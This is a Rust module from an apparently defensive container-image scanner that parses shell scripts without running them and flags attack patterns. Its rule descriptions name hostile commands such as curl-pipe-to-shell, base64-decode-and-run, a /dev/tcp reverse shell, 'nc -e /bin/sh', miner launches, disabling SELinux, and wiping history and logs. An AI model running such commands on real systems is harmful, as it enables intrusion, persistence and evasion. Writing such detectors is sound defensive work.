//! Shell semantics shared by every analyzer that reads shell: scripts, crontab commands,
//! systemd `Exec*` lines, the image config and build history.
//!
//! The API other modules use:
//! - [`words`]: the words of one command line, quotes and escapes resolved.
//! - [`analyze_script`]: the shell checks over a script (or one command line); each
//!   [`ShellHit`] names its rule, the 1-based line and short, escaped evidence.
//! - [`executed_paths`]: the programs and sourced files a script runs, by path, for callers
//!   that judge where things run from (persistence entries, entrypoints).
//! - [`evidence`]: the escaping and clipping every evidence string goes through.
//!
//! The parser is a bounded, POSIX-ish reading of shell: quotes, escapes, `;` `&&` `||` `|`
//! `&`, redirections, here-documents, `$(…)`, backticks, `<(…)`, and the strings given to
//! `sh -c`, `su -c` and `eval` are parsed again. It never executes or expands anything; it
//! reads what a script would do in order to recognise attack patterns, not to emulate a shell.

use customs_core::{Confidence, Severity};

use crate::Rule;

/// One shell check that matched.
#[derive(Clone)]
pub(crate) struct ShellHit {
    /// The rule that matched.
    pub rule: &'static Rule,
    /// 1-based line of the command in the text given.
    pub line: usize,
    /// What matched, escaped and clipped.
    pub evidence: String,
}

pub(crate) static DOWNLOAD_EXEC: Rule = Rule {
    id: "shell-download-exec",
    title: "Shell downloads code and runs it",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    attack: &["T1105", "T1059.004"],
    description: "The script fetches content from the network and executes it without \
        keeping or checking it (`curl … | sh`, download to a file then run it, `bash -c \
        \"$(curl …)\"`). Malicious images use this to pull their payload at start, so the \
        image itself looks clean. Check what the URL serves and pin it by checksum.",
};

pub(crate) static DECODE_EXEC: Rule = Rule {
    id: "shell-decode-exec",
    title: "Shell decodes hidden code and runs it",
    severity: Severity::High,
    confidence: Confidence::Medium,
    attack: &["T1027", "T1140", "T1059.004"],
    description: "The script decodes base64, hex or escaped text and executes the result \
        (`base64 -d | sh`, `eval \"$(… | base64 -d)\"`, `xxd -r -p | sh`): code hidden from \
        review. Decode the payload and read it.",
};

pub(crate) static REVERSE_SHELL: Rule = Rule {
    id: "shell-reverse-shell",
    title: "Shell connected to a network socket",
    severity: Severity::High,
    confidence: Confidence::High,
    attack: &["T1059.004", "T1071"],
    description: "A shell whose input and output are a network connection (`bash -i >& \
        /dev/tcp/HOST/PORT`, `nc -e /bin/sh`, `socat exec:…`, a FIFO piped through nc): a \
        remote operator gets a prompt inside the container.",
};

pub(crate) static MINER_LAUNCH: Rule = Rule {
    id: "shell-miner-launch",
    title: "Cryptominer command line",
    severity: Severity::High,
    confidence: Confidence::High,
    attack: &["T1496"],
    description: "A command carries a mining pool URL (`stratum+tcp://…`), XMRig's \
        `--donate-level`, or a pool `-o HOST:PORT` with a `-u` wallet and miner options: a \
        cryptominer is being started.",
};

pub(crate) static KILL_RIVALS: Rule = Rule {
    id: "shell-kill-rival-miners",
    title: "Script kills other cryptominers",
    severity: Severity::High,
    confidence: Confidence::High,
    attack: &["T1496", "T1489"],
    description: "The script kills processes named like known miners or mining malware \
        (xmrig, kdevtmpfsi, kinsing, …): mining malware clears rivals before starting its own.",
};

pub(crate) static CLOUD_AGENT: Rule = Rule {
    id: "shell-remove-cloud-agent",
    title: "Script removes a cloud security agent",
    severity: Severity::High,
    confidence: Confidence::Medium,
    attack: &["T1562.001"],
    description: "The script stops, kills or uninstalls a cloud provider's host agent \
        (Alibaba Cloud Aegis/aliyun, Tencent Cloud qcloud/YunJing, Baidu bcm-agent), as \
        TeamTNT, Kinsing and WatchDog scripts do before mining.",
};

pub(crate) static DISABLE_SECURITY: Rule = Rule {
    id: "shell-disable-security",
    title: "Script disables SELinux, AppArmor or auditing",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    attack: &["T1562.001"],
    description: "`setenforce 0`, stopping or disabling AppArmor or auditd, or turning \
        auditing off: the script lowers the host's defences.",
};

pub(crate) static DISABLE_FIREWALL: Rule = Rule {
    id: "shell-disable-firewall",
    title: "Script turns the firewall off",
    severity: Severity::Medium,
    confidence: Confidence::Low,
    attack: &["T1562.004"],
    description: "`ufw disable`, an iptables flush or ACCEPT policy, or stopping firewalld: \
        the script opens the host to the network. Firewall set-up scripts also flush rules \
        before adding their own.",
};

pub(crate) static DISABLE_WATCHDOG: Rule = Rule {
    id: "shell-disable-watchdog",
    title: "Script disables the kernel NMI watchdog",
    severity: Severity::Medium,
    confidence: Confidence::Low,
    attack: &["T1562.001", "T1496"],
    description: "The script sets `kernel.nmi_watchdog` to 0, as miners do so a pegged CPU \
        does not trip lockup detection. Profiling guides do it too.",
};

pub(crate) static IMMUTABLE: Rule = Rule {
    id: "shell-immutable-attr",
    title: "Script changes the immutable flag of a system file",
    severity: Severity::High,
    confidence: Confidence::Medium,
    attack: &["T1222.002"],
    description: "`chattr +i`/`-i` (or `+a`) on authorized_keys, ld.so.preload, crontabs, \
        passwd/shadow, sudoers or system binaries: malware unlocks these to plant persistence \
        and locks them so nobody can remove it.",
};

pub(crate) static HISTORY_WIPE: Rule = Rule {
    id: "shell-history-wipe",
    title: "Script wipes or disables shell history",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    attack: &["T1070.003"],
    description: "`history -c`, `unset HISTFILE`, `HISTFILE=/dev/null`, `HISTSIZE=0`, \
        `set +o history` or emptying `.bash_history`: hiding what was typed.",
};

pub(crate) static LOG_WIPE: Rule = Rule {
    id: "shell-log-wipe",
    title: "Script deletes or empties system logs",
    severity: Severity::Low,
    confidence: Confidence::Medium,
    attack: &["T1070.002"],
    description: "Truncating or removing login records and system logs (wtmp, btmp, lastlog, \
        auth.log, secure, messages, syslog, audit logs, `/var/log/*`). Image builds also \
        empty `/var/log` to save space, hence low.",
};

/// Every shell rule, for documentation and tests.
#[cfg(test)]
pub(crate) static RULES: &[&Rule] = &[
    &DOWNLOAD_EXEC,
    &DECODE_EXEC,
    &REVERSE_SHELL,
    &MINER_LAUNCH,
    &KILL_RIVALS,
    &CLOUD_AGENT,
    &DISABLE_SECURITY,
    &DISABLE_FIREWALL,
    &DISABLE_WATCHDOG,
    &IMMUTABLE,
    &HISTORY_WIPE,
    &LOG_WIPE,
];

/// Nested scripts (`sh -c`, `$(…)`, `eval`) are followed this deep; hostile input nests more.
const MAX_DEPTH: usize = 8;
/// Downloaded files and `for` loops remembered while reading a script.
const MAX_TRACKED: usize = 32;
/// Longest evidence string, in characters.
const EVIDENCE_MAX: usize = 160;

/// Escapes control characters and clips to a short, printable, one-line string.
pub(crate) fn evidence(s: &str) -> String {
    let s = s.trim();
    let mut out = String::new();
    for (n, c) in s.chars().enumerate() {
        if n >= EVIDENCE_MAX {
            out.push('…');
            break;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if c.is_control()
                || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}') =>
            {
                out.push_str(&format!("\\u{{{:x}}}", c as u32))
            }
            c => out.push(c),
        }
    }
    out
}

/// The words of one command line with quotes and escapes resolved; operators, redirections
/// and comments are dropped, `$(…)` and backticks stay as written. `a 'b c' | d "$(e)"` gives
/// `a`, `b c`, `d`, `$(e)`.
pub(crate) fn words(line: &str) -> Vec<String> {
    let script = parse(line, 1, 0);
    script
        .cmds
        .into_iter()
        .flat_map(|c| c.words.into_iter().map(|w| w.text))
        .collect()
}

/// Runs every shell check over `text`.
pub(crate) fn analyze_script(text: &str) -> Vec<ShellHit> {
    let script = parse(text, 1, 0);
    let mut hits = Hits::default();
    check_script(&script, 0, &mut hits);
    hits.into_vec()
}

/// How a script runs a path.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Run {
    /// As a program (`/tmp/x`, `nohup /tmp/x &`).
    Program,
    /// As the script of an interpreter (`sh /tmp/x`, `python3 /tmp/x.py`).
    Interpreted,
    /// Read into the current shell (`. FILE`, `source FILE`).
    Sourced,
}

/// A path a script runs, as written (variables unexpanded).
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Executed {
    /// 1-based line.
    pub line: usize,
    /// The path or command name.
    pub path: String,
    /// How it is run.
    pub run: Run,
}

/// The programs a script runs and the files it sources or hands to an interpreter, for
/// callers that judge where things run from. Nested `sh -c` and `$(…)` count.
pub(crate) fn executed_paths(text: &str) -> Vec<Executed> {
    let script = parse(text, 1, 0);
    let mut out = Vec::new();
    collect_executed(&script, 0, &mut out);
    out
}

fn collect_executed(script: &Script, depth: usize, out: &mut Vec<Executed>) {
    for cmd in &script.cmds {
        let argv = effective(cmd);
        if let Some(first) = argv.first() {
            if !first.text.is_empty() && !first.text.starts_with('$') {
                out.push(Executed {
                    line: cmd.line,
                    path: first.text.clone(),
                    run: Run::Program,
                });
            }
            if let Some(p) = script_operand(&argv) {
                let sourced = matches!(first.text.as_str(), "." | "source");
                out.push(Executed {
                    line: cmd.line,
                    path: p.text.clone(),
                    run: if sourced {
                        Run::Sourced
                    } else {
                        Run::Interpreted
                    },
                });
            }
        }
        if depth < MAX_DEPTH {
            for nested in nested_scripts(cmd, &argv) {
                collect_executed(&nested, depth + 1, out);
            }
        }
    }
}

/// Hits gathered over a script: the first per rule and the other lines it matched on, so a
/// hostile script repeating one line a million times gives one finding, not a million.
#[derive(Default)]
struct Hits {
    by_rule: Vec<(ShellHit, std::collections::BTreeSet<usize>)>,
}

impl Hits {
    fn push(&mut self, h: ShellHit) {
        match self
            .by_rule
            .iter_mut()
            .find(|(f, _)| std::ptr::eq(f.rule, h.rule))
        {
            Some((first, lines)) => {
                lines.insert(h.line);
                if h.line < first.line {
                    *first = h;
                }
            }
            None => {
                let lines = [h.line].into();
                self.by_rule.push((h, lines));
            }
        }
    }

    fn into_vec(self) -> Vec<ShellHit> {
        let mut v: Vec<ShellHit> = self
            .by_rule
            .into_iter()
            .map(|(mut h, lines)| {
                if lines.len() > 1 {
                    h.evidence = format!("{} (+{} more lines)", h.evidence, lines.len() - 1);
                }
                h
            })
            .collect();
        v.sort_by(|a, b| (a.line, a.rule.id).cmp(&(b.line, b.rule.id)));
        v
    }
}

// ---------------------------------------------------------------------------------------
// Parsing

#[derive(Debug, Default, Clone)]
struct Word {
    /// Value with quotes removed; substitutions kept as written.
    text: String,
    /// Parsed `$(…)`, backtick and `<(…)` bodies inside the word.
    subs: Vec<Script>,
    /// Any part was quoted or escaped.
    quoted: bool,
}

#[derive(Debug, Clone)]
struct Redir {
    fd: Option<u32>,
    op: &'static str,
    target: Word,
    /// Here-document body, for `<<`.
    body: Option<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sep {
    Pipe,
    And,
    Or,
    Seq,
}

#[derive(Debug, Clone)]
struct Cmd {
    words: Vec<Word>,
    redirs: Vec<Redir>,
    line: usize,
    start: usize,
    end: usize,
    /// How it connects to the next command.
    sep: Sep,
}

#[derive(Debug, Default, Clone)]
struct Script {
    src: String,
    cmds: Vec<Cmd>,
}

struct Parser<'a> {
    s: &'a [u8],
    i: usize,
    line: usize,
    depth: usize,
}

fn parse(src: &str, line: usize, depth: usize) -> Script {
    let mut p = Parser {
        s: src.as_bytes(),
        i: 0,
        line,
        depth,
    };
    let cmds = p.script();
    Script {
        src: src.to_string(),
        cmds,
    }
}

const REDIR_OPS: &[&str] = &[
    "<<<", "<<-", "&>>", "<<", ">>", ">&", "<&", "&>", ">|", "<>", "<", ">",
];

impl Parser<'_> {
    fn peek(&self, k: usize) -> Option<u8> {
        self.s.get(self.i + k).copied()
    }

    fn script(&mut self) -> Vec<Cmd> {
        let mut cmds: Vec<Cmd> = Vec::new();
        let mut cur = self.new_cmd();
        // Here-documents whose bodies start after the next newline: (command index or
        // None for the current one, redirection index, delimiter, strip tabs).
        let mut pending: Vec<(Option<usize>, usize, String, bool)> = Vec::new();
        let finish = |cmds: &mut Vec<Cmd>,
                      cur: &mut Cmd,
                      sep: Sep,
                      pending: &mut Vec<(Option<usize>, usize, String, bool)>,
                      p: &Parser<'_>| {
            let fresh = p.new_cmd();
            let mut done = std::mem::replace(cur, fresh);
            if done.words.is_empty() && done.redirs.is_empty() {
                if let Some(last) = cmds.last_mut()
                    && sep != Sep::Seq
                    && last.sep == Sep::Seq
                {
                    last.sep = sep;
                }
                return;
            }
            done.sep = sep;
            cmds.push(done);
            let idx = cmds.len() - 1;
            for pd in pending.iter_mut().filter(|pd| pd.0.is_none()) {
                pd.0 = Some(idx);
            }
        };
        while self.i < self.s.len() {
            let c = self.s[self.i];
            match c {
                b' ' | b'\t' | b'\r' => self.i += 1,
                b'\\' if self.peek(1) == Some(b'\n') => {
                    self.i += 2;
                    self.line += 1;
                }
                b'\n' => {
                    self.i += 1;
                    finish(&mut cmds, &mut cur, Sep::Seq, &mut pending, self);
                    self.line += 1;
                    for (ci, ri, delim, strip) in pending.drain(..) {
                        let body = self.heredoc_body(&delim, strip);
                        if let Some(r) = ci
                            .and_then(|ci| cmds.get_mut(ci))
                            .and_then(|c| c.redirs.get_mut(ri))
                        {
                            r.body = Some(body);
                        }
                    }
                }
                b'#' => {
                    while self.i < self.s.len() && self.s[self.i] != b'\n' {
                        self.i += 1;
                    }
                }
                b';' => {
                    self.i += if self.peek(1) == Some(b';') { 2 } else { 1 };
                    finish(&mut cmds, &mut cur, Sep::Seq, &mut pending, self);
                }
                b'&' if self.peek(1) == Some(b'&') => {
                    self.i += 2;
                    finish(&mut cmds, &mut cur, Sep::And, &mut pending, self);
                }
                b'|' if self.peek(1) == Some(b'|') => {
                    self.i += 2;
                    finish(&mut cmds, &mut cur, Sep::Or, &mut pending, self);
                }
                b'|' => {
                    self.i += if self.peek(1) == Some(b'&') { 2 } else { 1 };
                    finish(&mut cmds, &mut cur, Sep::Pipe, &mut pending, self);
                }
                b'&' if self.peek(1) != Some(b'>') => {
                    self.i += 1;
                    finish(&mut cmds, &mut cur, Sep::Seq, &mut pending, self);
                }
                b'(' | b')' => {
                    self.i += 1;
                    if c == b')' || !cur.words.is_empty() {
                        // `f()` of a function definition or the end of a subshell.
                        if c == b')' {
                            finish(&mut cmds, &mut cur, Sep::Seq, &mut pending, self);
                        }
                    }
                }
                b'<' | b'>' if self.peek(1) != Some(b'(') => {
                    if cur.words.is_empty() && cur.redirs.is_empty() {
                        cur.start = self.i;
                        cur.line = self.line;
                    }
                    self.redirect(None, &mut cur, &mut pending);
                    cur.end = self.i;
                }
                b'&' => {
                    // `&>` / `&>>`.
                    if cur.words.is_empty() && cur.redirs.is_empty() {
                        cur.start = self.i;
                        cur.line = self.line;
                    }
                    self.redirect(None, &mut cur, &mut pending);
                    cur.end = self.i;
                }
                _ => {
                    let start = self.i;
                    let line = self.line;
                    let w = self.word();
                    if self.i == start {
                        // Not a word character after all; never loop.
                        self.i += 1;
                        continue;
                    }
                    let fd = (!w.quoted
                        && !w.text.is_empty()
                        && w.text.len() <= 2
                        && w.text.bytes().all(|b| b.is_ascii_digit())
                        && matches!(self.peek(0), Some(b'<' | b'>'))
                        && self.peek(1) != Some(b'('))
                    .then(|| w.text.parse().ok())
                    .flatten();
                    if cur.words.is_empty() && cur.redirs.is_empty() {
                        cur.start = start;
                        cur.line = line;
                    }
                    if fd.is_some() {
                        self.redirect(fd, &mut cur, &mut pending);
                    } else {
                        cur.words.push(w);
                    }
                    cur.end = self.i;
                }
            }
        }
        finish(&mut cmds, &mut cur, Sep::Seq, &mut pending, self);
        for (ci, ri, delim, strip) in pending.drain(..) {
            let body = self.heredoc_body(&delim, strip);
            if let Some(r) = ci
                .and_then(|ci| cmds.get_mut(ci))
                .and_then(|c| c.redirs.get_mut(ri))
            {
                r.body = Some(body);
            }
        }
        cmds
    }

    fn new_cmd(&self) -> Cmd {
        Cmd {
            words: Vec::new(),
            redirs: Vec::new(),
            line: self.line,
            start: self.i,
            end: self.i,
            sep: Sep::Seq,
        }
    }

    fn redirect(
        &mut self,
        fd: Option<u32>,
        cur: &mut Cmd,
        pending: &mut Vec<(Option<usize>, usize, String, bool)>,
    ) {
        let rest = &self.s[self.i..];
        let op = REDIR_OPS
            .iter()
            .find(|op| rest.starts_with(op.as_bytes()))
            .copied()
            .unwrap_or(">");
        self.i += op.len();
        while matches!(self.peek(0), Some(b' ' | b'\t')) {
            self.i += 1;
        }
        let target = if matches!(self.peek(0), None | Some(b'\n' | b';' | b'|' | b'&' | b')')) {
            Word::default()
        } else {
            self.word()
        };
        if op == "<<" || op == "<<-" {
            pending.push((None, cur.redirs.len(), target.text.clone(), op == "<<-"));
        }
        cur.redirs.push(Redir {
            fd,
            op,
            target,
            body: None,
        });
    }

    fn heredoc_body(&mut self, delim: &str, strip: bool) -> String {
        let mut body = String::new();
        while self.i < self.s.len() {
            let end = self.s[self.i..]
                .iter()
                .position(|&b| b == b'\n')
                .map_or(self.s.len(), |n| self.i + n);
            let line = String::from_utf8_lossy(&self.s[self.i..end]);
            self.i = (end + 1).min(self.s.len());
            self.line += 1;
            let l = if strip {
                line.trim_start_matches('\t')
            } else {
                &line
            };
            if l.trim_end_matches('\r') == delim {
                break;
            }
            body.push_str(&line);
            body.push('\n');
        }
        body
    }

    /// Reads one word starting at `self.i`.
    fn word(&mut self) -> Word {
        let mut w = Word::default();
        let mut buf: Vec<u8> = Vec::new();
        // `<(…)` and `>(…)`: process substitution, a word of its own.
        if matches!(self.peek(0), Some(b'<' | b'>')) && self.peek(1) == Some(b'(') {
            let open = self.i;
            self.i += 1;
            self.substitution(&mut w, &mut buf, open);
        }
        while self.i < self.s.len() {
            let c = self.s[self.i];
            match c {
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')' => {
                    break;
                }
                b'\\' => {
                    match self.peek(1) {
                        Some(b'\n') => {
                            self.line += 1;
                        }
                        Some(n) => {
                            buf.push(n);
                            w.quoted = true;
                        }
                        None => {}
                    }
                    self.i += 2;
                }
                b'\'' => {
                    w.quoted = true;
                    self.i += 1;
                    while self.i < self.s.len() && self.s[self.i] != b'\'' {
                        if self.s[self.i] == b'\n' {
                            self.line += 1;
                        }
                        buf.push(self.s[self.i]);
                        self.i += 1;
                    }
                    self.i += 1;
                }
                b'"' => {
                    w.quoted = true;
                    self.i += 1;
                    while self.i < self.s.len() && self.s[self.i] != b'"' {
                        match self.s[self.i] {
                            b'\\' => {
                                match self.peek(1) {
                                    Some(b'\n') => self.line += 1,
                                    Some(n @ (b'$' | b'`' | b'"' | b'\\')) => buf.push(n),
                                    Some(n) => {
                                        buf.push(b'\\');
                                        buf.push(n);
                                    }
                                    None => {}
                                }
                                self.i += 2;
                            }
                            b'$' if self.peek(1) == Some(b'(') => {
                                let open = self.i;
                                self.i += 1;
                                self.substitution(&mut w, &mut buf, open);
                            }
                            b'$' if self.peek(1) == Some(b'{') => self.braces(&mut buf),
                            b'`' => self.backtick(&mut w, &mut buf),
                            b => {
                                if b == b'\n' {
                                    self.line += 1;
                                }
                                buf.push(b);
                                self.i += 1;
                            }
                        }
                    }
                    self.i += 1;
                }
                b'$' if self.peek(1) == Some(b'(') => {
                    let open = self.i;
                    self.i += 1;
                    self.substitution(&mut w, &mut buf, open);
                }
                b'$' if self.peek(1) == Some(b'{') => self.braces(&mut buf),
                b'$' if self.peek(1) == Some(b'\'') => {
                    // ANSI-C quoting: keep escapes as written, they are data to us.
                    w.quoted = true;
                    self.i += 2;
                    while self.i < self.s.len() && self.s[self.i] != b'\'' {
                        if self.s[self.i] == b'\\' && self.i + 1 < self.s.len() {
                            buf.push(b'\\');
                            self.i += 1;
                        }
                        buf.push(self.s[self.i]);
                        self.i += 1;
                    }
                    self.i += 1;
                }
                b'`' => self.backtick(&mut w, &mut buf),
                b => {
                    buf.push(b);
                    self.i += 1;
                }
            }
        }
        w.text = String::from_utf8_lossy(&buf).into_owned();
        w
    }

    /// At the `(` of `$(`, `<(` or `>(`; `open` is where the construct starts.
    fn substitution(&mut self, w: &mut Word, buf: &mut Vec<u8>, open: usize) {
        let arithmetic = self.peek(1) == Some(b'(');
        let body_start = (self.i + 1).min(self.s.len());
        let (body_end, end) = match matching_paren(self.s, self.i) {
            Some(close) => (close, close + 1),
            None => (self.s.len(), self.s.len()),
        };
        let line = self.line;
        let inner =
            String::from_utf8_lossy(&self.s[body_start..body_end.max(body_start)]).into_owned();
        self.line += inner.bytes().filter(|&b| b == b'\n').count();
        buf.extend_from_slice(&self.s[open..end]);
        self.i = end;
        if !arithmetic && self.depth < MAX_DEPTH {
            w.subs.push(parse(&inner, line, self.depth + 1));
        }
    }

    fn backtick(&mut self, w: &mut Word, buf: &mut Vec<u8>) {
        let line = self.line;
        self.i += 1;
        let mut inner: Vec<u8> = Vec::new();
        while self.i < self.s.len() && self.s[self.i] != b'`' {
            if self.s[self.i] == b'\\' && matches!(self.peek(1), Some(b'`' | b'\\' | b'$')) {
                self.i += 1;
            }
            if self.s[self.i] == b'\n' {
                self.line += 1;
            }
            inner.push(self.s[self.i]);
            self.i += 1;
        }
        self.i += 1;
        let inner = String::from_utf8_lossy(&inner).into_owned();
        buf.push(b'`');
        buf.extend_from_slice(inner.as_bytes());
        buf.push(b'`');
        if self.depth < MAX_DEPTH {
            w.subs.push(parse(&inner, line, self.depth + 1));
        }
    }

    fn braces(&mut self, buf: &mut Vec<u8>) {
        let mut depth = 0usize;
        while self.i < self.s.len() {
            let b = self.s[self.i];
            buf.push(b);
            self.i += 1;
            match b {
                b'{' => depth += 1,
                b'}' => {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
                b'\n' => self.line += 1,
                _ => {}
            }
        }
    }
}

/// Index of the `)` matching the `(` at `open`, skipping quotes; `None` when unbalanced.
fn matching_paren(s: &[u8], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    let mut i = open;
    while i < s.len() {
        match s[i] {
            b'\\' => i += 1,
            b'\'' => {
                i += 1;
                while i < s.len() && s[i] != b'\'' {
                    i += 1;
                }
            }
            b'"' => {
                i += 1;
                while i < s.len() && s[i] != b'"' {
                    if s[i] == b'\\' {
                        i += 1;
                    }
                    i += 1;
                }
            }
            b'(' => depth += 1,
            b')' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

// ---------------------------------------------------------------------------------------
// Reading commands

/// Shell keywords that may precede a command on the same line.
const KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "do", "while", "until", "!", "{", "time", "}", "fi", "done",
];

fn basename(p: &str) -> &str {
    p.rsplit('/').next().unwrap_or(p)
}

fn is_assignment(w: &Word) -> bool {
    let t = w.text.as_str();
    match t.find('=') {
        Some(n) if n > 0 => {
            let name = &t[..n];
            name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                && !name.as_bytes()[0].is_ascii_digit()
        }
        _ => false,
    }
}

/// Leading `NAME=value` words of a command (after keywords).
fn assignments(cmd: &Cmd) -> impl Iterator<Item = &Word> {
    cmd.words
        .iter()
        .skip_while(|w| !w.quoted && KEYWORDS.contains(&w.text.as_str()))
        .take_while(|w| is_assignment(w))
}

/// The words that name what runs and its arguments: keywords, assignments and wrappers
/// (`sudo`, `env`, `nohup`, `exec`, `timeout`, `busybox`, `xargs`, …) removed.
fn effective(cmd: &Cmd) -> Vec<&Word> {
    let mut v: Vec<&Word> = cmd
        .words
        .iter()
        .skip_while(|w| !w.quoted && KEYWORDS.contains(&w.text.as_str()))
        .skip_while(|w| is_assignment(w))
        .collect();
    for _ in 0..8 {
        let Some(first) = v.first() else { break };
        let name = basename(&first.text);
        // Options of the wrapper that take a value.
        let (valued, positional): (&[&str], usize) = match name {
            "sudo" | "doas" => (&["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"], 0),
            "env" => (&["-u", "-C", "--unset", "--chdir", "-S"], 0),
            "nohup" | "exec" | "command" | "builtin" | "setsid" | "time" | "stdbuf" => (&["-a"], 0),
            "nice" | "ionice" | "chrt" => (&["-n", "-c", "-p"], 0),
            "timeout" => (&["-s", "-k", "--signal", "--kill-after"], 1),
            "taskset" => (&[], 1),
            "xargs" => (&["-I", "-i", "-n", "-P", "-d", "-L", "-s", "-a", "-E"], 0),
            "busybox" => (&[], 0),
            _ => break,
        };
        let mut i = 1;
        while i < v.len() {
            let t = v[i].text.as_str();
            if t == "--" {
                i += 1;
                break;
            }
            if name == "env" && is_assignment(v[i]) {
                i += 1;
                continue;
            }
            if !t.starts_with('-') || t == "-" {
                break;
            }
            i += if valued.contains(&t) { 2 } else { 1 };
        }
        i += positional;
        v.drain(..i.min(v.len()));
    }
    v
}

fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "mksh" | "yash" | "busybox-sh" | "rbash"
    )
}

/// Script interpreters other than shells, by program name (versions stripped).
fn interpreter(name: &str) -> Option<&'static str> {
    let stem = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match stem {
        "python" | "pypy" => "python",
        "perl" => "perl",
        "ruby" => "ruby",
        "php" | "php-cli" => "php",
        "node" | "nodejs" => "node",
        _ => return None,
    })
}

/// The inline-code flag of an interpreter (`-c` for shells and python, `-e` for perl…).
fn code_flag(name: &str) -> &'static str {
    match interpreter(name) {
        Some("perl" | "ruby" | "node") => "-e",
        Some("php") => "-r",
        _ => "-c",
    }
}

/// Whether short-option word `w` (`-lc`, `-ec`) includes flag letter `f`.
fn has_flag(w: &str, f: char) -> bool {
    w.len() >= 2 && w.starts_with('-') && !w.starts_with("--") && w[1..].contains(f)
}

/// Whether option word `t` of shell or interpreter `name` takes the next word as its value
/// (`-o pipefail`, `-euxo pipefail`, `--rcfile F`, python's `-W arg`).
fn takes_value(name: &str, t: &str) -> bool {
    if is_shell(name) {
        matches!(t, "--rcfile" | "--init-file")
            || ((t.starts_with('-') || t.starts_with('+'))
                && !t.starts_with("--")
                && (t.ends_with('o') || t.ends_with('O')))
    } else {
        matches!(t, "-W" | "-X" | "-I" | "-M")
    }
}

/// For a shell or interpreter: the inline code given with `-c`/`-e`, if any. Shells take
/// it as their first operand after the options, the others right after the flag.
fn inline_code<'a>(argv: &[&'a Word]) -> Option<&'a Word> {
    let name = basename(&argv.first()?.text);
    let shell = is_shell(name);
    if !shell && interpreter(name).is_none() {
        return None;
    }
    let flag = code_flag(name).chars().nth(1)?;
    let mut i = 1;
    let mut seen = false;
    while i < argv.len() {
        let t = argv[i].text.as_str();
        if t == "--" {
            i += 1;
            break;
        }
        if !t.starts_with(['-', '+']) || t == "-" {
            break;
        }
        if has_flag(t, flag) {
            if !shell {
                return argv.get(i + 1).copied();
            }
            seen = true;
        }
        if takes_value(name, t) {
            i += 1;
        }
        i += 1;
    }
    if seen { argv.get(i).copied() } else { None }
}

/// Whether `argv` is a shell or interpreter reading its program from standard input.
fn reads_stdin(argv: &[&Word]) -> bool {
    let Some(first) = argv.first() else {
        return false;
    };
    let name = basename(&first.text);
    if !is_shell(name) && interpreter(name).is_none() {
        return false;
    }
    if inline_code(argv).is_some() {
        return false;
    }
    match script_operand(argv) {
        None => !argv.iter().any(|w| w.text == "-m"),
        Some(w) => matches!(w.text.as_str(), "-" | "/dev/stdin" | "/proc/self/fd/0"),
    }
}

/// For a shell, interpreter, `.` or `source`: the script file it runs.
fn script_operand<'a>(argv: &[&'a Word]) -> Option<&'a Word> {
    let name = basename(&argv.first()?.text);
    if matches!(name, "." | "source") {
        return argv.get(1).copied();
    }
    if !is_shell(name) && interpreter(name).is_none() {
        return None;
    }
    if inline_code(argv).is_some() {
        return None;
    }
    let mut i = 1;
    while i < argv.len() {
        let t = argv[i].text.as_str();
        if t == "--" {
            return argv.get(i + 1).copied();
        }
        if t == "-" {
            return Some(argv[i]);
        }
        if !t.starts_with('-') && !t.starts_with('+') {
            return Some(argv[i]);
        }
        if has_flag(t, 's') && is_shell(name) {
            return None;
        }
        if t == "-m" && !is_shell(name) {
            return None;
        }
        if takes_value(name, t) {
            i += 1;
        }
        i += 1;
    }
    None
}

/// Scripts a command hands to a shell again: `sh -c STR`, `su -c STR`, `eval ARGS`, the
/// bodies of its substitutions, here-documents fed to a shell.
fn nested_scripts(cmd: &Cmd, argv: &[&Word]) -> Vec<Script> {
    let mut out = Vec::new();
    let line = cmd.line;
    for w in &cmd.words {
        out.extend(w.subs.iter().cloned());
    }
    for r in &cmd.redirs {
        out.extend(r.target.subs.iter().cloned());
    }
    let Some(first) = argv.first() else {
        return out;
    };
    let name = basename(&first.text);
    if is_shell(name) {
        if let Some(code) = inline_code(argv) {
            out.push(parse(&code.text, line, 1));
        } else if reads_stdin(argv) {
            for r in &cmd.redirs {
                if let Some(body) = &r.body {
                    out.push(parse(body, line + 1, 1));
                }
            }
        }
    }
    if matches!(name, "su" | "runuser" | "flock" | "script")
        && let Some(i) = argv
            .iter()
            .position(|w| w.text == "-c" || w.text == "--command")
        && let Some(code) = argv.get(i + 1)
    {
        out.push(parse(&code.text, line, 1));
    }
    if name == "eval" {
        let joined: Vec<&str> = argv[1..].iter().map(|w| w.text.as_str()).collect();
        out.push(parse(&joined.join(" "), line, 1));
    }
    out
}

// ---------------------------------------------------------------------------------------
// Checks

/// What a pipeline stage produces on its standard output.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Produces {
    Download,
    Decode,
    Network,
}

const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "lwp-download",
    "lwp-request",
    "GET",
];

fn produces(argv: &[&Word]) -> Option<Produces> {
    let first = argv.first()?;
    let name = basename(&first.text);
    if DOWNLOADERS.contains(&name) {
        return Some(Produces::Download);
    }
    let args = || argv[1..].iter().map(|w| w.text.as_str());
    match name {
        "base64" | "base32" | "basenc"
            if args().any(|a| has_flag(a, 'd') || has_flag(a, 'D') || a == "--decode") =>
        {
            Some(Produces::Decode)
        }
        "openssl"
